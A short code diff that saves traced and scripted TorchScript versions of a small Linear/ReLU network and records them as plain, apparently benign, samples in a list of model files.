+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        torch.jit.save(torch.jit.trace(net, torch.ones(1, 4)), r / "traced.pt")
+        torch.jit.save(torch.jit.script(net), r / "scripted.pt")
+    out.append(Sample("ts_traced_plain", "traced TorchScript of Linear/ReLU", r / "traced.pt",
+                      "torchscript", False))
+    out.append(Sample("ts_scripted_plain", "scripted TorchScript of Linear/ReLU",
+                      r / "scripted.pt", "torchscript", False))
     return out
